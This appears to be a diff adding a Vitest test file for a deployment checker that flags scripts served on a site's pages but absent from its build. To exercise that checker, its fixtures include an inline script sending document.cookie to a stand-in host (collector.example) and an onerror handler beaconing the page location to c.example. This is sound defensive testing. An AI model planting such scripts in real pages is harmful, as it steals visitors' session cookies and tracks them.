@@ -1,0 +1,132 @@
+import { describe, expect, it } from 'vitest';
+import type { Reply } from '../../scripts/check-deployment/http';
+import { codeOf, cookiesSetBy, pageCodeOutcome, type PageAsSeen } from '../../scripts/check-deployment/page-code';
+
+/**
+ * check:deployment's line "pages run only the build's scripts, on a phone and on a second visit too" (red-team,
+ * session 23); check-deployment.test.ts runs it against a host that adds a script, and one that answers phones and
+ * returning visitors otherwise.
+ */
+const site = new URL('https://www.floors.example');
+const loader = `<script data-entry="/assets/index-AbC123.js">(()=>{document.getElementById('root')})()</script>`;
+const built = `<!doctype html><html><head><link rel="stylesheet" href="/assets/index-Css1.css"><script type="application/ld+json">{"@type":"LocalBusiness"}</script></head><body><h1>Refer Your Clients.</h1>${loader}</body></html>`;
+const reply = (body: string, status = 200, headers: Reply['headers'] = { 'content-type': 'text/html' }): Reply => ({
+  status,
+  headers,
+  body,
+});
+const seen = (first: string, extra: Partial<PageAsSeen> = {}): PageAsSeen => ({
+  page: '/realtors',
+  built,
+  first: reply(first),
+  phone: reply(first),
+  ...extra,
+});
+
+describe('the line on the code the pages run, and what phones and returning visitors get', () => {
+  it("is ok when every page runs only its built file's scripts and a phone and a second visit get the same page", () => {
+    expect(pageCodeOutcome(site, [seen(built, { secondVisit: reply(built) })], 'visitor=1', 'dist')).toEqual({
+      ok: true,
+      detail:
+        'the 1 pages run only scripts the pages in dist/ have, and phones and returning visitors (with the cookies the pages set) get the same pages',
+    });
+  });
+
+  it("fails a script the build does not have, added as served: another site's, an inline one, an event handler, one of the site's own outside the build", () => {
+    const withTag = built.replace(
+      '</head>',
+      '<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-X1"></script></head>',
+    );
+    const withInline = built.replace(
+      '</body>',
+      '<script>fetch("https://collector.example/"+document.cookie)</script></body>',
+    );
+    const withHandler = built.replace('<h1>', '<img src="x" onerror="new Image().src=\'//c.example/\'+location"><h1>');
+    const withOwn = built.replace('</body>', '<script src="/tracker.js"></script></body>');
+    for (const [served, named] of [
+      [withTag, 'the script https://www.googletagmanager.com/gtm.js?id=GTM-X1'],
+      [withInline, 'an inline script "fetch("https://collector.example/"+document.cookie)…"'],
+      [withHandler, `an inline onerror handler "new Image().src='//c.example/'+location"`],
+      [withOwn, 'the script /tracker.js'],
+    ]) {
+      const outcome = pageCodeOutcome(site, [seen(served!)], undefined, 'dist');
+      expect(outcome.ok).toBe(false);
+      expect(outcome.detail).toContain(`/realtors runs ${named}, which the build does not have`);
+    }
+  });
+
+  it("leaves out a CDN's own scripts on the site's origin (Cloudflare's /cdn-cgi/ bot check) and data blocks", () => {
+    const cloudflare = built.replace(
+      '</body>',
+      `<script>(function(){var a=document.createElement('script');a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';document.head.appendChild(a)})();</script><script defer src="/cdn-cgi/scripts/email-decode.min.js"></script><script type="application/ld+json">{"extra":1}</script></body>`,
+    );
+    expect(pageCodeOutcome(site, [seen(cloudflare)], undefined, 'dist').ok).toBe(true);
+    // Its analytics beacon is another address, which the privacy page would have to name: not left out.
+    const beacon = built.replace(
+      '</body>',
+      `<script defer src='https://static.cloudflareinsights.com/beacon.min.js' data-cf-beacon='{"token":"t"}'></script></body>`,
+    );
+    expect(pageCodeOutcome(site, [seen(beacon)], undefined, 'dist').detail).toContain(
+      'runs the script https://static.cloudflareinsights.com/beacon.min.js, which the build does not have',
+    );
+  });
+
+  it('fails a page that a phone or a returning visitor gets otherwise than the first answer: another page, another build, a script more, a redirect', () => {
+    const otherBuild = built.replace('index-AbC123.js', 'index-0ld999.js');
+    const withScript = built.replace('</body>', '<script src="https://ads.example/m.js"></script></body>');
+    expect(pageCodeOutcome(site, [seen(built, { phone: reply(otherBuild) })], undefined, 'dist').detail).toMatch(
+      /^\/realtors on a phone: \/assets\/index-0ld999\.js where the first answer names \/assets\/index-AbC123\.js \(another build\)[:;] /,
+    );
+    expect(
+      pageCodeOutcome(
+        site,
+        [seen(built, { phone: reply('', 302, { location: 'https://m.floors.example/realtors' }) })],
+        undefined,
+        'dist',
+      ).detail,
+    ).toMatch(/^\/realtors on a phone: status 302 to https:\/\/m\.floors\.example\/realtors[:;] /);
+    expect(pageCodeOutcome(site, [seen(built, { secondVisit: reply(withScript) })], 'seen=1', 'dist').detail).toMatch(
+      /^\/realtors on a second visit \(with the cookies the pages set\): the script https:\/\/ads\.example\/m\.js, which the first answer does not run[:;] /,
+    );
+    expect(
+      pageCodeOutcome(
+        site,
+        [seen(built, { phone: reply(built.replace('Refer Your Clients.', 'Download our app')) })],
+        undefined,
+        'dist',
+      ).detail,
+    ).toMatch(/^\/realtors on a phone: the heading "Download our app"[:;] /);
+  });
+
+  it('says not checked without the build, unless a phone or a second visit already differs', () => {
+    expect(pageCodeOutcome(site, [seen(built, { built: undefined })], undefined, 'dist')).toMatchObject({
+      ok: false,
+      skipped: true,
+    });
+    const outcome = pageCodeOutcome(
+      site,
+      [
+        seen(built, {
+          built: undefined,
+          phone: reply(built.replace('</body>', '<script src="/m.js"></script></body>')),
+        }),
+      ],
+      undefined,
+      'dist',
+    );
+    expect([outcome.ok, 'skipped' in outcome]).toEqual([false, false]);
+  });
+
+  it('reads the scripts and cookies as a browser would', () => {
+    expect([...codeOf(built, site).values()]).toEqual([
+      `an inline script "(()=>{document.getElementById('root')})()…"`,
+    ]);
+    expect(
+      cookiesSetBy([
+        reply('', 200, { 'set-cookie': ['a=1; Path=/; HttpOnly', 'b=x=y; Secure'] }),
+        reply('', 200, { 'set-cookie': ['a=2'] }),
+      ]),
+    ).toBe('a=2; b=x=y');
+    expect(cookiesSetBy([reply('')])).toBeUndefined();
+  });
+});
